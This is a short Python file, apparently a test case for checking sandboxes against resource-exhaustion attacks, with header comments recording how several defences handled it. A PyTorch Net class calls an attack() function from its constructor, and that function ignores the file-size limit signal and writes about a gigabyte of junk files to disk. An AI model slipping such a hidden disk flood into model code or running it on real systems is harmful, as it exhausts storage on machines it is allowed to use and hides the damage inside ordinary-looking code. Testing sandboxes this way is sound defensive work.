# group: floods
# tries: writes a gigabyte to its folder, in one file and in many
# static: unsafe
# sandbox: trained
# landlock: crashed

import signal

import torch.nn as nn


def attack():
    try:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
    whole = 0
    for number in range(64):
        try:
            with open(f"archloop-flood-{number}", "wb", buffering=0) as opened:
                while opened.tell() < 64 * 2**20 and whole < 2**30:
                    written = opened.write(bytes(2**20))
                    whole += written
                    if not written:
                        break
        except OSError:
            continue
    if whole >= 2**29:
        print("BREACH disk", whole)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
